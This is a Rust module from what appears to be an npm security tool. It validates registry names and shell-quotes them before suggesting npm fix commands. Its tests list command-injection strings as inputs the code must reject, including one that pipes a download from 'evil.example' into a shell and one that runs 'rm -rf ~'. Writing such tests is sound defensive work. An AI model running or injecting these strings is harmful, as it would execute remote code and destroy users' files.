//! The npm commands a finding suggests as its fix. They paste names the registry chose (maintainers,
//! packages, versions, orgs): a name a person pastes into a shell must not run anything. A name that
//! is not a valid npm name of its kind is suspicious, and no command is suggested for it; a valid
//! one is shell-quoted all the same (npm's names need no quotes, so they read as typed).

use std::borrow::Cow;

/// One word of a suggested command.
#[derive(Debug, Clone, Copy)]
pub enum Word<'a> {
    /// The command's own text (`npm`, `owner`, `rm`, `--registry`).
    Lit(&'a str),
    /// A package name, `left-pad` or `@acme/core`.
    Package(&'a str),
    /// A package at a version, `@acme/core@1.2.1`.
    Spec(&'a str),
    /// A user, org or team name.
    Name(&'a str),
}

/// The longest name npm takes.
const MAX_NAME: usize = 214;

fn name_part(p: &str) -> bool {
    !p.is_empty()
        && p.len() <= MAX_NAME
        && p.starts_with(|c: char| c.is_ascii_alphanumeric())
        && p.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_' | '~'))
}

/// A package name as npm takes it: `name` or `@scope/name`, each part URL-safe and starting with a
/// letter or digit, at most 214 characters in all.
pub fn valid_package(name: &str) -> bool {
    name.len() <= MAX_NAME
        && match name.strip_prefix('@') {
            Some(scoped) => scoped
                .split_once('/')
                .is_some_and(|(scope, bare)| name_part(scope) && name_part(bare)),
            None => name_part(name),
        }
}

/// `package@version`, the version of semver's characters.
pub fn valid_spec(spec: &str) -> bool {
    let at = spec
        .char_indices()
        .skip(1)
        .find(|(_, c)| *c == '@')
        .map(|(i, _)| i);
    at.is_some_and(|i| {
        let (name, version) = (&spec[..i], &spec[i + 1..]);
        valid_package(name)
            && !version.is_empty()
            && version.len() <= 256
            && version
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '+'))
    })
}

fn valid(word: Word<'_>) -> bool {
    match word {
        Word::Lit(_) => true,
        Word::Package(p) => valid_package(p),
        Word::Spec(s) => valid_spec(s),
        Word::Name(n) => name_part(n),
    }
}

/// The command in backticks, each name shell-quoted; `None` when a name is not a valid npm name.
pub fn npm(words: &[Word<'_>]) -> Option<String> {
    if !words.iter().all(|w| valid(*w)) {
        return None;
    }
    let parts: Vec<Cow<'_, str>> = words
        .iter()
        .map(|w| match w {
            Word::Lit(t) => Cow::Borrowed(*t),
            Word::Package(s) | Word::Spec(s) | Word::Name(s) => shell_words::quote(s),
        })
        .collect();
    Some(format!("`npm {}`", parts.join(" ")))
}

/// What a fix says instead of a command for a name that is not a valid npm name.
pub fn withheld(name: &str) -> String {
    format!(
        "`{}` is not a valid npm name: treat it as suspicious, look at it on npmjs.com and act there \
         (no command is suggested for it)",
        crate::inert::show(name)
    )
}

/// [`npm`], or [`withheld`] naming the first invalid name.
pub fn npm_or_withheld(words: &[Word<'_>]) -> String {
    npm(words).unwrap_or_else(|| {
        let bad = words
            .iter()
            .find_map(|w| match w {
                Word::Lit(_) => None,
                Word::Package(s) | Word::Spec(s) | Word::Name(s) => (!valid(*w)).then_some(*s),
            })
            .unwrap_or_default();
        withheld(bad)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use Word::*;

    #[test]
    fn valid_names_make_the_command_and_others_withhold_it() {
        assert_eq!(
            npm(&[Lit("owner"), Lit("rm"), Name("bob"), Package("@acme/core")]).as_deref(),
            Some("`npm owner rm bob @acme/core`")
        );
        assert_eq!(
            npm(&[Lit("deprecate"), Spec("@acme/core@1.2.1-rc.1+b5")]).as_deref(),
            Some("`npm deprecate @acme/core@1.2.1-rc.1+b5`")
        );
        assert_eq!(
            npm(&[Lit("owner"), Lit("rm"), Name("~bob"), Package("x")]),
            None,
            "a name must start with a letter or digit"
        );
        for hostile in [
            "MAINT-$(id);rm -rf ~",
            "bob; curl evil.example | sh",
            "a`id`",
            "bob\nnpm publish",
            "bob'quote",
            "",
            "@acme/../../x",
            "@acme",
        ] {
            assert_eq!(
                npm(&[Lit("owner"), Lit("rm"), Name(hostile), Package("x")]),
                None,
                "{hostile:?}"
            );
            assert_eq!(
                npm(&[Lit("deprecate"), Package(hostile)]),
                None,
                "{hostile:?}"
            );
            let said = npm_or_withheld(&[Lit("org"), Lit("rm"), Name("acme"), Name(hostile)]);
            assert!(said.contains("is not a valid npm name"), "{said}");
            assert!(!said.contains('\n'), "{said:?}");
        }
        assert!(!valid_spec("@acme/core@1.0.0;id"));
        assert!(!valid_spec("core"));
        assert!(valid_package(&"a".repeat(214)));
        assert!(!valid_package(&"a".repeat(215)));
    }
}
